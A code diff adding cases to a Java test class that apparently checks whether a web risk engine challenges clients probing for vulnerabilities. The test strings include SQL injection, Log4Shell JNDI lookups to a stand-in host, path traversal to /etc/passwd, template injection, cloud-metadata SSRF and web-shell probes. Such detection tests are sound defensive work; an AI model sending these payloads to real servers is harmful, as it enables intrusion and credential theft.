@@ -479,6 +479,24 @@ class BuiltInSceneTests {
             assertThat(asks("GET", "/", BROWSER, null, 200)).isEqualTo(RiskAction.CHALLENGE);
         }
 
+        @ParameterizedTest
+        @ValueSource(
+                strings = {
+                    "/1.php /2.php",
+                    "/x.php /up.php",
+                    "/config.php~ /configuration.php.old",
+                    "/cgi-bin/bash /cgi-bin/test.cgi",
+                    "/zabbix/ /cacti/",
+                    "/kcfinder/browse.php /elfinder/php/connector.minimal.php"
+                })
+        void isWhoeverLooksForWhatOthersHaveLeft(String paths) {
+            for (String path : paths.split(" ")) {
+                asks("GET", path, BROWSER, null, 404);
+                pause(2);
+            }
+            assertThat(asks("GET", "/", BROWSER, null, 200)).isEqualTo(RiskAction.CHALLENGE);
+        }
+
         @Test
         void isWhoeverPostsToScriptsThatAreNotThere() {
             asks("POST", "/xw.php", BROWSER, null, 404);
@@ -502,6 +520,7 @@ class BuiltInSceneTests {
                             + " /search?q=etc%2Fpasswd /search?q=..%2F..+relative+path",
                     "/?s=function()+%7B /?s=${jndi: /?s=cmd.exe /?s=xp_cmdshell /?s=php://input+stream",
                     "/books?title=Union+Select&page=1 /books?title=Union+Select&page=2 /books?title=Union+Select&page=3",
+                    "/run?code=function()+%7B1%7D /run?code=function()+%7B2%7D /run?code=function()+%7B3%7D",
                     "/thumb?src=../../images/a.jpg /thumb?src=../../images/b.jpg /thumb?src=../../images/c.jpg"
                 })
         void isNotWhoeverSearchesForAttacks(String paths) {
@@ -520,6 +539,8 @@ class BuiltInSceneTests {
                     "/search?q=1+union+select+null,null /search?q=1'+or+'1'='1",
                     "/search?q=${jndi:ldap://198.51.100.7/a} /search?q=${jndi:dns://198.51.100.7/b}",
                     "/view?file=../../../../etc/passwd /view?file=/etc/passwd",
+                    "/item?id=1+and+1=1 /item?id=1'+and+sleep(5)--",
+                    "/?name={{7*7}} /fetch?url=http://169.254.169.254/latest",
                     "/?s=/index/%5Cthink%5Capp/invokefunction /?s=/home/%5Cthink%5Capp/invokefunction",
                     "/user/register?element_parents=account/mail/%23value /node?a=1&element_parents=x/%23value"
                 })
@@ -560,9 +581,10 @@ class BuiltInSceneTests {
         @CsvSource({
             "'/wp-content/uploads/2015/03/slides.pdf /downloads/tool-1.2.zip /old/page.php /console/ps3', true",
             "'/wp-content/plugins/gallery/load.php /wp-content/themes/blue/map.php /wp-json/wp/v2/types', true",
-            "'/files/page.php /files/a.zip /tool-1.2.zip /tool-1.3.tar.gz /data/world.sql', false",
+            "'/files/page.php /old/a.php /old/2.php /files/a.zip /tool-1.2.zip /tool-1.3.tar.gz /data/world.sql', false",
             "'/actuator/health /actuator/health /actuator/health /actuator/health', false",
             "'/owa/ /owa/ /owa/ /owa/', false",
+            "'/console/ps3 /remote/tv /vpn/prices /containers/20ft /manager/training', false",
             "'/docs/.DS_Store /photos/.DS_Store /notes/.DS_Store', false"
         })
         void isNotWhoeverAsksForWhatWasThereOnce(String paths, boolean linked) {
